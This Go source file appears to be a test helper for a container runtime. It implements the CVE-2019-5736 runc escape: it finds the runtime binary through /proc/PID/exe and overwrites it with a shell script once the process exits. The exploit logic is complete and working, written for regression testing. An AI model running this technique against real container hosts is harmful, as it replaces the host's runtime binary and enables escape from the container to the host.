// exeattack is CVE-2019-5736's attack, run inside a container by TestSelfExe: it waits for a
// process whose executable is not one of the container's (a `labs-runc exec` of a script
// whose interpreter leads to /proc/self/exe runs the runtime's binary inside the container),
// keeps that file open
// through /proc/PID/exe, and once the process is gone (the kernel refuses to write a running
// binary: ETXTBSY), opens it again for writing. It prints what happened: "wrote", or
// "refused: ERROR", or "none" if no such process came within the time given. It leaves its verdict in /tmp/result.
package main

import (
	"errors"
	"fmt"
	"os"
	"strings"
	"syscall"
	"time"
)

func main() {
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			exe := "/proc/" + e.Name() + "/exe"
			// Every executable of the container is under /bin; anything else came from outside.
			if target, err := os.Readlink(exe); err != nil || target == "" || strings.HasPrefix(target, "/bin/") {
				continue
			}
			f, err := os.Open(exe)
			if err != nil {
				continue
			}
			verdict(attack(f))
			return
		}
	}
	verdict("none")
}

func verdict(v string) {
	fmt.Println(v)
	_ = os.WriteFile("/tmp/result", []byte(v+"\n"), 0o644)
}

// attack writes to the file f was opened on, through /proc/self/fd, until the kernel stops
// answering ETXTBSY (the process ran it) or five seconds pass.
func attack(f *os.File) string {
	path := fmt.Sprintf("/proc/self/fd/%d", f.Fd())
	var err error
	for start := time.Now(); time.Since(start) < 5*time.Second; {
		var w *os.File
		if w, err = os.OpenFile(path, os.O_WRONLY, 0); err == nil {
			_, err = w.Write([]byte("#!/bin/sh\necho pwned\n"))
			w.Close()
			if err == nil {
				return "wrote"
			}
		}
		if !errors.Is(err, syscall.ETXTBSY) {
			break
		}
	}
	return "refused: " + err.Error()
}
